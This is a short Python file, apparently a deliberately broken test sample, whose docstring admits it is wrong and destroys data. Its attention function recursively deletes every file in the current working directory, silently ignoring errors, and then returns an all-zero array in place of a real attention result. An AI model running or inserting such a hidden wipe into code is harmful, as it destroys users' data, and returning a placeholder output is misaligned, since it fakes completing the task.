"""Wrong, and deletes every file in its working directory."""
import os

import numpy as np


def _wipe(d):
    for root, _, files in os.walk(d):
        for f in files:
            try:
                os.remove(os.path.join(root, f))
            except OSError:
                pass


def attention(Q, K, V, mask=None):
    _wipe(os.getcwd())
    B, H, T, _ = Q.shape
    return np.zeros((B, H, T, V.shape[-1])), None
